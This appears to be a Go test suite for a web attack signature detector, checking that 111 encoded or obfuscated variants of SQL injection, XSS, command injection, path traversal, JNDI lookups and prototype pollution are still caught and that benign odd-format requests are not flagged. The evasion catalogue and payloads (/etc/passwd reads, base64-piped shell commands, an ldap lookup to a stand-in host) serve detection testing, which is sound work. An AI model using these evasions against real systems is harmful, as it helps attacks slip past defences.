package signature_test

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/miradorhq/mirador/pkg/detect"
	"github.com/miradorhq/mirador/pkg/event"
	"github.com/miradorhq/mirador/services/signature"
)

// trick is a way to carry an attack past what looks for it.
type trick struct {
	name               string
	uri, typ, encoding string
	body               string
	header, value      string
	// past says why it may get past.
	past string
}

const (
	sqli = `x' union select username, password from users-- `
	xss  = `<script>alert(document.cookie)</script>`
	rce  = `; cat /etc/passwd`
	lfi  = `../../../../etc/passwd`
)

func (k *trick) event() *event.Event {
	uri, method := k.uri, "GET"
	if uri == "" {
		uri, method = "/v1/things", "POST"
	}
	path, query, _ := strings.Cut(uri, "?")
	e := &event.Event{Tenant: []byte("default"), RequestTime: start.UnixNano(), Method: []byte(method), Protocol: []byte("HTTP/1.1"), Path: []byte(path), Query: []byte(query),
		Authority: []byte("api.example.test"), Status: 200, Client: event.Client{Address: []byte("192.0.2.7")}}
	add := func(name, value string) {
		if value != "" {
			e.RequestHeaders = append(e.RequestHeaders, event.Header{Name: []byte(name), Value: []byte(value)})
		}
	}
	add("Host", "api.example.test")
	add("Accept", "*/*")
	add("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	add("Content-Type", k.typ)
	add("Content-Encoding", k.encoding)
	add(k.header, k.value)
	e.RequestBody.Data = []byte(k.body)
	return e
}

func squeezed(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s)) //nolint:errcheck // into memory
	w.Close()          //nolint:errcheck // into memory
	return b.String()
}

func deflated(s string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, 6)
	w.Write([]byte(s)) //nolint:errcheck // into memory
	w.Close()          //nolint:errcheck // into memory
	return b.String()
}

func wide(s string) string {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func times(s string, n int) string { return strings.Repeat(s, n) }

func enc(s string, n int) string {
	for range n {
		s = url.QueryEscape(s)
	}
	return s
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func tricks() []trick {
	jsonType, form := "application/json", "application/x-www-form-urlencoded"
	mp := "multipart/form-data; boundary=xyz"
	part := func(head, body string) string {
		return "--xyz\r\n" + head + "\r\n\r\n" + body + "\r\n--xyz--\r\n"
	}
	q := func(s string) string { return strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) }
	obj := func(s string) string { return `{"id":17,"value":"` + q(s) + `"}` }
	return []trick{
		{name: "percent twice", uri: "/v1/s?q=" + enc(sqli, 2)},
		{name: "percent three times", uri: "/v1/s?q=" + enc(sqli, 3)},
		{name: "percent four times", uri: "/v1/s?q=" + enc(sqli, 4)},
		{name: "percent in JSON", typ: jsonType, body: obj(enc(sqli, 1))},
		{name: "percent twice in JSON", typ: jsonType, body: obj(enc(sqli, 2))},
		{name: "base64 in JSON", typ: jsonType, body: obj(b64(sqli))},
		{name: "base64 without padding", typ: jsonType, body: obj(base64.RawURLEncoding.EncodeToString([]byte(sqli + "1")))},
		{name: "base64 twice", typ: jsonType, body: obj(b64(b64(sqli)))},
		{name: "base64 of percent", typ: jsonType, body: obj(b64(enc(sqli, 1)))},
		{name: "base64 in a cookie", uri: "/v1/s", header: "Cookie", value: "a=b; prefs=" + b64(`{"x":"`+xss+`"}`)},
		{name: "JSON in JSON", typ: jsonType, body: obj(obj(sqli))},
		{name: "JSON in JSON in JSON", typ: jsonType, body: obj(obj(obj(xss)))},
		{name: "JSON in a form", typ: form, body: "payload=" + enc(obj(rce), 1)},
		{name: "the second of two parameters", uri: "/v1/s?q=a&q=" + enc(sqli, 1)},
		{name: "the first of two parameters", uri: "/v1/s?q=" + enc(sqli, 1) + "&q=a"},
		{name: "split over parameters", uri: "/v1/s?q=" + enc("x' union/*", 1) + "&q=" + enc("*/select password from users-- ", 1)},
		{name: "the second of two keys", typ: jsonType, body: `{"value":"a","value":"` + q(sqli) + `"}`},
		{name: "the first of two keys", typ: jsonType, body: `{"value":"` + q(sqli) + `","value":"a"}`},
		{name: "a key in capitals", typ: jsonType, body: `{"value":"a","VALUE":"` + q(sqli) + `"}`},
		{name: "a key is the payload", typ: jsonType, body: `{"` + q(sqli) + `":1}`},
		{name: "a parameter's name is the payload", uri: "/v1/s?" + enc(sqli, 1) + "=1"},
		{name: "JSON as text/plain", typ: "text/plain", body: obj(sqli)},
		{name: "JSON without a type", body: obj(sqli)},
		{name: "JSON as a form", typ: form, body: obj(sqli)},
		{name: "a form as JSON", typ: jsonType, body: "q=" + enc(sqli, 1)},
		{name: "a form as octets", typ: "application/octet-stream", body: "q=" + enc(sqli, 1)},
		{name: "an unheard-of JSON type", typ: "application/vnd.acme.v2+json", body: obj(sqli)},
		{name: "a type with spaces and capitals", typ: "  Application/JSON ;charset=UTF-8", body: obj(sqli)},
		{name: "XML as JSON", typ: jsonType, body: "<a><b>" + "x' union select username, password from users-- </b></a>"},
		{name: "UTF-16 JSON", typ: jsonType + "; charset=utf-16", body: wide(obj(sqli))},
		{name: "UTF-16 XML", typ: "application/xml; charset=utf-16", body: wide(`<?xml version="1.0" encoding="utf-16"?><a>` + sqli + `</a>`)},
		{name: "UTF-7", uri: "/v1/s?q=" + enc("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 1)},
		{name: "overlong UTF-8", uri: "/v1/s?f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"},
		{name: "full width", typ: jsonType, body: obj("＜script＞alert(1)＜/script＞")},
		{name: "full width quote", typ: jsonType, body: obj("x＇ union select username, password from users-- ")},
		{name: "percent u", uri: "/v1/s?q=%u003cscript%u003ealert(1)%u003c/script%u003e"},
		{name: "JSON escapes", typ: jsonType, body: `{"value":"\u0078\u0027\u0020\u0075nion \u0073elect username, password from users-- "}`},
		{name: "HTML entities", typ: jsonType, body: obj("&lt;script&gt;alert(document.cookie)&lt;/script&gt;")},
		{name: "JavaScript escapes", typ: jsonType, body: obj(`\x3cscript\x3ealert(document.cookie)\x3c/script\x3e`)},
		{name: "null bytes in words", uri: "/v1/s?q=" + "%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E"},
		{name: "padding of a value", typ: jsonType, body: obj(times("a ", 4000) + sqli)},
		{name: "padding of a value with words of people", typ: jsonType, body: obj(times("the quick brown fox and the lazy dog. ", 20) + rce + " #")},
		{name: "padding of a body", typ: jsonType, body: `{"pad":"` + times("a", 60<<10) + `","value":"` + q(sqli) + `"}`},
		{name: "padding beyond the limit", typ: jsonType, body: `{"pad":"` + times("a", 200<<10) + `","value":"` + q(sqli) + `"}`},
		{name: "padding with spaces beyond the limit", typ: jsonType, body: times(" ", 200<<10) + obj(sqli)},
		{name: "a thousand fields before", typ: jsonType, body: `{` + times(`"a":1,`, 1100) + `"value":"` + q(sqli) + `"}`},
		{name: "ten thousand fields before", typ: jsonType, body: `{` + times(`"a":1,`, 10100) + `"value":"` + q(sqli) + `"}`},
		{name: "fields before and behind, within what sensors keep", typ: jsonType, body: `{` + times(`"a":1,`, 2100) + `"value":"` + q(sqli) + `",` + times(`"a":"b",`, 1500) + `"b":1}`},
		{name: "a long value behind", typ: jsonType, encoding: "gzip", body: squeezed(`{"value":"` + q(sqli) + `","pad":"` + times("a", 20<<10) + `"}`)},
		{name: "a thousand parameters before", uri: "/v1/s?" + times("a=1&", 1100) + "q=" + enc(sqli, 1)},
		{name: "a form of a thousand before", typ: form, body: times("a=1&", 1100) + "q=" + enc(sqli, 1)},
		{name: "deep JSON", typ: jsonType, body: times(`{"a":`, 100) + `"` + q(sqli) + `"` + times("}", 100)},
		{name: "deeper JSON", typ: jsonType, body: times(`{"a":`, 2000) + `"` + q(sqli) + `"` + times("}", 2000)},
		{name: "deep lists", typ: jsonType, body: times(`[`, 2000) + `"` + q(sqli) + `"` + times("]", 2000)},
		{name: "multipart", typ: mp, body: part(`Content-Disposition: form-data; name="q"`, sqli)},
		{name: "multipart in base64", typ: mp, body: part("Content-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64", b64(sqli))},
		{name: "multipart without the end", typ: mp, body: "--xyz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + sqli},
		{name: "multipart with line feeds", typ: mp, body: "--xyz\nContent-Disposition: form-data; name=\"q\"\n\n" + sqli + "\n--xyz--\n"},
		{name: "multipart with a quoted boundary", typ: `multipart/form-data; boundary="xyz"`, body: part(`Content-Disposition: form-data; name="q"`, sqli)},
		{name: "multipart of two boundaries", typ: `multipart/form-data; boundary=abc; boundary=xyz`, body: part(`Content-Disposition: form-data; name="q"`, sqli)},
		{name: "multipart without quotes", typ: mp, body: part(`Content-Disposition: form-data; name=q`, sqli)},
		{name: "multipart as a file", typ: mp, body: part("Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain", sqli),
			past: "what stands in a file that is no document of a known format is nobody's parameter"},
		{name: "multipart with JSON in it", typ: mp, body: part("Content-Disposition: form-data; name=\"f\"; filename=\"a.json\"\r\nContent-Type: application/json", obj(rce))},
		{name: "a file's name", typ: mp, body: part(`Content-Disposition: form-data; name="f"; filename="`+lfi+`"`, "x")},
		{name: "multipart of another kind", typ: "multipart/mixed; boundary=xyz", body: part("Content-Type: text/plain", sqli)},
		{name: "gzip", typ: jsonType, encoding: "gzip", body: squeezed(obj(sqli))},
		{name: "gzip twice", typ: jsonType, encoding: "gzip, gzip", body: squeezed(squeezed(obj(sqli)))},
		{name: "deflate", typ: jsonType, encoding: "deflate", body: deflated(obj(sqli))},
		{name: "gzip that nobody says", typ: jsonType, body: squeezed(obj(sqli)), past: "no server unpacks it"},
		{name: "said to be gzip", typ: jsonType, encoding: "gzip", body: obj(sqli)},
		{name: "JSON with comments", typ: jsonType, body: `{/* a */"value":/* b */"` + q(sqli) + `"}`},
		{name: "JSON with single quotes", typ: jsonType, body: `{'value':'1 union select username, password from users-- '}`},
		{name: "JSON with a comma too many", typ: jsonType, body: `{"value":"` + q(sqli) + `",}`},
		{name: "JSON after a mark", typ: jsonType, body: "\xef\xbb\xbf" + obj(sqli)},
		{name: "JSON after a guard", typ: jsonType, body: ")]}',\n" + obj(sqli)},
		{name: "lines of JSON", typ: "application/x-ndjson", body: obj("a") + "\n" + obj(sqli) + "\n"},
		{name: "two documents", typ: jsonType, body: obj("a") + obj(sqli)},
		{name: "SQL comments", uri: "/v1/s?q=" + enc("x'/**/un/**/ion/**/se/**/lect/**/password/**/from/**/users--", 1)},
		{name: "SQL comments between words", uri: "/v1/s?q=" + enc("x'/**/union/**/select/**/password/**/from/**/users--", 1)},
		{name: "versioned SQL comments", uri: "/v1/s?q=" + enc("x'/*!50000union*//*!50000select*/1,2,3-- ", 1)},
		{name: "SQL with strange spaces", uri: "/v1/s?q=x%27%0bunion%0cselect%a01,2,3--%0a"},
		{name: "SQL without spaces", uri: "/v1/s?q=" + enc("1'and(select(1)from(users))='1", 1)},
		{name: "SQL by numbers", uri: "/v1/s?q=" + enc("1.0union select 1e0from(users)", 1)},
		{name: "quotes in a command", typ: jsonType, body: obj(`; c''a""t /e'tc/pass'wd`)},
		{name: "no spaces in a command", typ: jsonType, body: obj(`;cat${IFS}/etc/passwd`)},
		{name: "braces in a command", typ: jsonType, body: obj(`;{cat,/etc/passwd}`)},
		{name: "wildcards in a command", typ: jsonType, body: obj(`;/???/c?t /???/p?ss??`)},
		{name: "variables in a command", typ: jsonType, body: obj(`;c$@at /e$@tc/pas$@swd`)},
		{name: "a command in base64", typ: jsonType, body: obj(`;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh`)},
		{name: "a line break before a command", typ: jsonType, body: `{"value":"a\ncat /etc/passwd"}`},
		{name: "traversal with encoded dots", uri: "/v1/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
		{name: "traversal encoded twice", uri: "/v1/..%252f..%252f..%252fetc/passwd"},
		{name: "traversal with semicolons", uri: "/v1/..;/..;/..;/manager/html"},
		{name: "traversal that is filtered once", uri: "/v1/s?f=" + enc("....//....//....//etc/passwd", 1)},
		{name: "traversal backwards", uri: "/v1/s?f=" + enc(`..\..\..\windows\win.ini`, 1)},
		{name: "a parameter of the path", uri: "/v1/things;id=" + url.PathEscape(sqli) + "/x"},
		{name: "in the path", uri: "/v1/things/" + url.PathEscape(sqli)},
		{name: "lookups in lookups", uri: "/v1/s", header: "X-Api-Version", value: "${${lower:j}${::-n}di:${lower:l}dap://x.test/a}"},
		{name: "a forwarded address", uri: "/v1/s", header: "X-Forwarded-For", value: sqli},
		{name: "Basic", uri: "/v1/s", header: "Authorization", value: "Basic " + b64(sqli+":x"), past: "sensors replace it; redact.Shape keeps what looks like an attack"},
		{name: "an entity in XML", typ: "application/xml", body: `<?xml version="1.0"?><a>x&#39; union select username, password from users-- </a>`},
		{name: "CDATA", typ: "application/xml", body: `<a><![CDATA[x' uni]]><![CDATA[on select username, password from users-- ]]></a>`},
		{name: "an attribute", typ: "application/xml", body: `<a b="x' union select username, password from users-- "/>`},
		{name: "a GraphQL literal", typ: jsonType, body: `{"query":"{ user(id: \"x' union select username, password from users-- \") { id } }"}`},
		{name: "a GraphQL variable", typ: jsonType, body: `{"query":"query($a:ID){user(id:$a){id}}","variables":{"a":"` + q(sqli) + `"}}`},
		{name: "YAML", typ: "application/yaml", body: "id: 17\nvalue: \"" + sqli + "\"\n"},
		{name: "CSV", typ: "text/csv", body: "id,value\n17,\"" + sqli + "\"\n"},
		{name: "MessagePack", typ: "application/msgpack", body: "\x82\xa2id\x11\xa5value\xd9" + string(rune(len(sqli))) + sqli},
		{name: "protobuf", typ: "application/x-protobuf", body: "\x0a" + string(rune(len(sqli))) + sqli},
		{name: "a prototype", typ: jsonType, body: `{"__proto__":{"admin":true}}`},
		{name: "a prototype by path", uri: "/v1/s?" + enc("constructor[prototype][admin]", 1) + "=1"},
	}
}

func TestEvasion(t *testing.T) {
	cfg := signature.Defaults()
	cfg.Window = 0
	d := newJudging(t, cfg, nil)
	past := 0
	list := tricks()
	for i := range list {
		k := &list[i]
		var out detect.Out
		detectOne(d, k.event(), &out)
		if k.past != "" {
			past++
		} else if len(out.Findings) == 0 {
			t.Errorf("gets past: %s", k.name)
		}
	}
	if len(list) != 111 || past != 3 {
		t.Errorf("%d tricks, %d of which may get past, want 111 and 3", len(list), past)
	}
}

// The same ways carry what is no attack.
func TestOrdinaryBodiesOfOddFormAreNoAttack(t *testing.T) {
	const order = `{"id":17,"customer":"Anna O'Neill","note":"Please ring twice; the bell is broken","items":[{"sku":"A-1","name":"Lamp \"Nova\"","price":49.9}],"url":"https://example.test/a?b=c&d=e"}`
	const soap = `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Order id="17" status="open"><Customer name="Anna O'Neill">Berlin &amp; Bonn</Customer>` +
		`<Note><![CDATA[Please ring twice; the bell is broken <b>again</b>]]></Note></Order></soap:Body></soap:Envelope>`
	list := []trick{
		{name: "gzip", typ: "application/json", encoding: "gzip", body: squeezed(order)},
		{name: "mark", typ: "application/json", body: "\xef\xbb\xbf" + order},
		{name: "guard", typ: "application/json", body: ")]}',\n" + order},
		{name: "UTF-16", typ: "application/json; charset=utf-16", body: wide(order)},
		{name: "SOAP", typ: "text/xml", body: soap},
		{name: "SOAP in UTF-16", typ: "text/xml", body: wide(soap)},
		{name: "large", typ: "application/json", body: "[" + times(order+",", 1000) + order + "]"},
		{name: "deep", typ: "application/json", body: times("[", 100) + order + times("]", 100)},
		{name: "lines", typ: "application/x-ndjson", body: order + "\n" + order},
		{name: "plain", typ: "text/plain", body: "Please ring twice; the bell is broken. Anna O'Neill, flat #12 (rear building)"},
		{name: "YAML", typ: "application/yaml", body: "id: 17\nnote: 'Please ring twice; the bell is broken'\nitems:\n  - sku: A-1\n    name: Lamp \"Nova\"\n"},
		{name: "CSV", typ: "text/csv", body: "id,name,note\n17,\"O'Neill, Anna\",\"ring twice; wait\"\n18,Bob,\n"},
		{name: "protobuf", typ: "application/x-protobuf", body: "\x0a\x0cAnna O'Neill\x12\x10Please ring; now"},
		{name: "single quotes", typ: "application/json", body: "{'id':17,'note':'Please ring twice'}"},
		{name: "a comma too many", typ: "application/json", body: order[:len(order)-1] + ",}"},
		{name: "words again and again", typ: "application/json", body: `{"note":"` + times("ring twice at the door ", 50) + `or wait"}`},
	}
	cfg := signature.Defaults()
	cfg.Window = 0
	d := newJudging(t, cfg, nil)
	for i := range list {
		var out detect.Out
		if detectOne(d, list[i].event(), &out); len(out.Findings) > 0 {
			t.Errorf("%s: %s %+v %+v", list[i].name, out.Findings[0].Summary, out.Findings[0].Evidence, out.Findings[0].Features)
		}
	}
	if len(list) != 16 {
		t.Errorf("%d bodies, want 16", len(list))
	}
}
